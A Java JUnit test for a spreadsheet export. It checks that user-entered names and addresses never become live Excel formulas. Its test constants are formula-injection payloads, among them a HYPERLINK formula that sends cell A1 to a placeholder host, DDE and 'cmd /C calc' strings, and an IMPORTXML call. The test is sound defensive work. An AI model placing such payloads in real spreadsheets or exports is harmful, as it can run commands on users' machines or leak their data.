package nl.puntwijs.export;

import static nl.puntwijs.export.ExportWerkboekTest.bron;
import static nl.puntwijs.export.ExportWerkboekTest.dienst;
import static nl.puntwijs.export.ExportWerkboekTest.lees;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.regex.Matcher;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * User text that a spreadsheet would run as a formula or DDE command, in every place a user names something: the
 * complex id and name, a dwelling id (which the signals quote), street, house number addition, a room, a shared
 * space, the portfolio name. Every cell of every sheet is checked: no formula holds user text, every text that
 * starts like a formula is a text cell with the quote prefix (so Excel shows it as text, and editing the cell and
 * pressing Enter keeps it text), and every injected text is there literally.
 */
class FormuleInvoerTest {

    /** Classic CSV/DDE injection payloads, one per place. */
    private static final String COMPLEX_ID = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"klik\")";
    private static final String COMPLEX_NAAM = "+cmd|' /C calc'!A0";
    private static final String WONING_ID = "-1+1";
    private static final String STRAAT = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String TOEVOEGING = "\t=1+1";
    private static final String RUIMTE = "\r=2+3";
    private static final String GEDEELD = "=DDE(\"cmd\";\"/C calc\";\"x\")";
    private static final String PORTEFEUILLE = "=IMPORTXML(\"http://example.invalid\",\"//a\")";
    private static final List<String> ALLE = List.of(COMPLEX_ID, COMPLEX_NAAM, WONING_ID, STRAAT, TOEVOEGING, RUIMTE,
            GEDEELD, PORTEFEUILLE);

    @TempDir
    Path tmp;

    @Test
    void geenGebruikerstekstWordtEenFormule() throws Exception {
        String json = Files.readString(ExportWerkboekTest.LINDE, StandardCharsets.UTF_8)
                .replace("\"LIN-001\"", quote(WONING_ID))
                .replace("\"id\": \"LINDE\"", "\"id\": " + quote(COMPLEX_ID))
                .replace("\"naam\": \"De Linde\"", "\"naam\": " + quote(COMPLEX_NAAM))
                .replaceFirst("\"straatnaam\": \"Lindehof\"", Matcher.quoteReplacement("\"straatnaam\": " + quote(STRAAT)
                        + ", \"huisnummerToevoeging\": " + quote(TOEVOEGING)))
                .replaceFirst("\"naam\": \"Woonkamer\"", Matcher.quoteReplacement("\"naam\": " + quote(RUIMTE)))
                .replace("\"naam\": \"Ontmoetingsruimte\"", "\"naam\": " + quote(GEDEELD));
        for (String t : List.of(WONING_ID, COMPLEX_ID, COMPLEX_NAAM, STRAAT, TOEVOEGING, RUIMTE, GEDEELD)) {
            assertThat(json).as("the sample still has the field this test replaces").contains(quote(t));
        }
        Path invoer = Files.writeString(tmp.resolve("gevaarlijk.json"), json);
        Path doel = tmp.resolve("rapport.xlsx");
        Exportverslag v = dienst(Exportopties.standaard()).exporteer(
                bron(LocalDate.of(2025, 7, 1), List.of(), invoer).metNaam(PORTEFEUILLE), doel, Voortgang.GEEN,
                Annulering.NOOIT);
        assertThat(v.nietOpgenomen()).isEmpty();
        assertThat(v.woningen()).isEqualTo(24);

        Set<String> gevonden = new HashSet<>();
        List<String> fouten = new ArrayList<>();
        try (XSSFWorkbook wb = lees(doel)) {
            for (Sheet blad : wb) {
                for (Row r : blad) {
                    for (Cell c : r) {
                        String plaats = blad.getSheetName() + "!" + c.getAddress();
                        if (c.getCellType() == CellType.FORMULA) {
                            String f = c.getCellFormula();
                            if (f.contains("cmd") || f.contains("HYPERLINK") || f.contains("DDE") || f.contains("IMPORTXML")
                                    || f.contains("1+1") || f.contains("2+3")) {
                                fouten.add(plaats + " is a formula with user text: " + f);
                            }
                        } else if (c.getCellType() == CellType.STRING) {
                            String t = c.getStringCellValue();
                            for (String a : ALLE) {
                                if (t.contains(a.strip())) {
                                    gevonden.add(a);
                                }
                            }
                            if (Tabel.isFormuleachtig(t) && !c.getCellStyle().getQuotePrefixed()) {
                                fouten.add(plaats + " starts like a formula without the quote prefix: " + t);
                            }
                        }
                    }
                }
            }
        }
        assertThat(fouten).isEmpty();
        assertThat(gevonden).as("each text is in the report, literally").containsExactlyInAnyOrderElementsOf(ALLE);
    }

    private static String quote(String tekst) {
        return "\"" + tekst.replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t").replace("\r", "\\r") + "\"";
    }
}
